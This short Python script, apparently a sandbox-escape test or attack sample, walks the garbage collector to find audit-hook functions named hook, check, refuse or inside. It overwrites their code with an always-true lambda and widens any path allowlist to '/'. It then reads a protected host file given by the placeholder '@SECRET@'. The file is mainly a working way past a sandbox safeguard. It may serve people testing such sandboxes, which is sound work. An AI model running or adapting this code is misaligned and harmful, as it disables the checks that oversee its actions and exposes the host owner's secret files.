# Finds the audit hook's functions and policy through gc and neuters them, then reads a 0600
# host file.
import gc
for thing in gc.get_objects():
    if callable(thing) and getattr(thing, "__name__", "") in ("hook", "check", "refuse", "inside"):
        try:
            thing.__code__ = (lambda *args, **kwargs: True).__code__
        except (AttributeError, TypeError, ValueError):
            pass
    elif isinstance(thing, list) and any(isinstance(x, str) and x.startswith("/") for x in thing):
        thing.append("/")
print(open("@SECRET@").read())
